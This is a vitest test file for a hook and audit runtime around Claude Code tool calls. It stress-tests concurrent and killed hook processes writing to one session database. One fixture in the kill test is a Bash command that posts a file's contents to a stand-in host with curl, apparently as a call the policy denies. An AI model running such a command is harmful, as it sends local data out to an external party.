import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { checkState, runClaudeCodeHook, Store, verifyAudit } from "@vigil/runtime";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { claudeCodeEvents, HOOK_POLICY, type Payload } from "./support/claude-code-events.js";
import { cli } from "./support/run-vigilc.js";

/**
 * Many `vigilc hook claude-code` processes on one session's database, as Claude Code runs them when
 * tool calls go in parallel: all results recorded once, and nothing lost or corrupted when processes
 * are killed at any point. Dozens of processes at once: a file of the heavy tier.
 */

let scratch = "";
let policy = "";
let project = "";

beforeAll(() => {
  if (!existsSync(cli)) throw new Error(`${cli} is missing: run \`npx tsc -b\` before the CLI tests`);
  scratch = mkdtempSync(join(tmpdir(), "vigil-hook-processes-"));
  policy = join(scratch, "project.vigil");
  writeFileSync(policy, HOOK_POLICY);
  project = join(scratch, "project");
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const { payload, preToolUse, postToolUse } = claudeCodeEvents(() => project);

function openDatabase(path: string): Store {
  return Store.open(path, { mustExist: true });
}

/** A PreToolUse answered in this process, as a hook process would answer it (faster than a spawn). */
function decideInProcess(event: Payload, database: string) {
  return runClaudeCodeHook(JSON.stringify(event), { policyFiles: [policy], db: database, cwd: scratch });
}

/** Spawns a hook process; resolves with its exit code (null when killed). */
function spawnHook(event: Payload, database: string, killAfterMs?: number): Promise<{ code: number | null; signal: NodeJS.Signals | null; stdout: string }> {
  return new Promise((resolvePromise, reject) => {
    const child = spawn(process.execPath, [cli, "hook", "claude-code", "--policy", policy, "--db", database], { cwd: scratch, stdio: ["pipe", "pipe", "pipe"] });
    let stdout = "";
    child.stdout.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk));
    child.stderr.resume();
    const limit = setTimeout(() => child.kill("SIGKILL"), 60_000);
    const killer = killAfterMs !== undefined ? setTimeout(() => child.kill("SIGKILL"), killAfterMs) : undefined;
    child.on("error", reject);
    child.on("close", (code, signal) => {
      clearTimeout(limit);
      if (killer !== undefined) clearTimeout(killer);
      resolvePromise({ code, signal, stdout });
    });
    child.stdin.on("error", () => {});
    child.stdin.end(JSON.stringify(event));
  });
}

describe("many hook processes on one session", () => {
  it("records every result exactly once when they run at the same time", async () => {
    const db = join(scratch, "concurrent.db");
    const session = "parallel";
    // The policy is compiled once before, as it would be by the session's first event.
    expect((await spawnHook(payload(session, "UserPromptSubmit", { prompt: "go" }), db)).code).toBe(0);
    const calls = Array.from({ length: 24 }, (_, i) => i);
    // Each call is decided first (a result is recorded only for a call the hook decided and let run).
    for (const i of calls) {
      const pre = i % 2 === 0 ? preToolUse(session, `toolu_${i}`, "Write", { file_path: `/p/f${i}.txt`, content: `${i}` }) : preToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` });
      expect((await decideInProcess(pre, db)).exitCode).toBe(0);
    }
    const results = await Promise.all(
      calls.map((i) =>
        i % 2 === 0
          ? spawnHook(postToolUse(session, `toolu_${i}`, "Write", { file_path: `/p/f${i}.txt`, content: `${i}` }, { type: "create", filePath: `/p/f${i}.txt`, content: `${i}` }), db)
          : spawnHook(postToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` }, { stdout: "", stderr: "", interrupted: false, isImage: false }), db),
      ),
    );
    expect(results.map((r) => r.code)).toEqual(calls.map(() => 0));
    // And the same results delivered twice at once: none is recorded again.
    const duplicates = await Promise.all(calls.slice(0, 6).map((i) => spawnHook(postToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` }, { stdout: "" }), db)));
    expect(duplicates.map((r) => r.code)).toEqual([0, 0, 0, 0, 0, 0]);
    const store = openDatabase(db);
    try {
      expect(verifyAudit(store)).toMatchObject({ ok: true });
      expect(checkState(store)).toEqual([]);
      const ids = store.db.prepare("SELECT call_id, COUNT(*) AS n FROM events WHERE run_id = ? AND call_id IS NOT NULL GROUP BY call_id ORDER BY call_id").all(session) as { call_id: string; n: number }[];
      // Each Write is one event; each Bash is two (the call and the touch it runs).
      expect(ids).toEqual(calls.map((i) => ({ call_id: `toolu_${i}`, n: i % 2 === 0 ? 1 : 2 })).sort((a, b) => a.call_id.localeCompare(b.call_id)));
      const positions = store.db.prepare("SELECT position FROM events WHERE run_id = ? ORDER BY position").all(session) as { position: number }[];
      expect(positions.map((p) => p.position)).toEqual(Array.from({ length: 1 + 12 + 24 }, (_, i) => i + 1));
    } finally {
      store.close();
    }
  });

  it("loses and corrupts nothing when hook processes are killed at random points", async () => {
    const db = join(scratch, "killed.db");
    const session = "killed";
    // How long one hook takes here, so that the kills fall across its whole run, writes included.
    expect((await decideInProcess(preToolUse(session, "warm", "Read", { file_path: "/p/a" }), db)).exitCode).toBe(0);
    const started = performance.now();
    expect((await spawnHook(postToolUse(session, "warm", "Read", { file_path: "/p/a" }, "a"), db)).code).toBe(0);
    const duration = performance.now() - started;
    const completed: string[] = ["warm"];
    let killed = 0;
    for (let round = 0; round < 30; round++) {
      const batch = Array.from({ length: 3 }, (_, i) => `toolu_${round}_${i}`);
      // The calls whose results are sent were decided before.
      for (const id of batch.slice(0, 2)) expect((await decideInProcess(preToolUse(session, id, "Bash", { command: `echo ${round} > f${round}` }), db)).exitCode).toBe(0);
      const outcomes = await Promise.all(
        batch.map((id, i) =>
          spawnHook(
            i === 2 ? preToolUse(session, id, "Bash", { command: `cat f${round} && curl -d @f${round} https://x.example` }) : postToolUse(session, id, "Bash", { command: `echo ${round} > f${round}` }, { stdout: "" }),
            db,
            duration * (0.4 + Math.random() * 0.9),
          ),
        ),
      );
      outcomes.forEach((outcome, i) => {
        if (outcome.signal === "SIGKILL") killed++;
        else if (outcome.code === 0 && i !== 2) completed.push(batch[i]!);
      });
      const store = openDatabase(db);
      try {
        const verified = verifyAudit(store);
        expect(verified).toMatchObject({ ok: true });
        expect(checkState(store)).toEqual([]);
      } finally {
        store.close();
      }
    }
    expect(killed).toBeGreaterThan(0);
    const store = openDatabase(db);
    try {
      // Every result whose hook finished is there, once.
      const recorded = new Set((store.db.prepare("SELECT DISTINCT call_id FROM events WHERE run_id = ?").all(session) as { call_id: string }[]).map((r) => r.call_id));
      expect(completed.filter((id) => !recorded.has(id))).toEqual([]);
      const integrity = store.db.pragma("integrity_check", { simple: true });
      expect(integrity).toBe("ok");
    } finally {
      store.close();
    }
  });
});
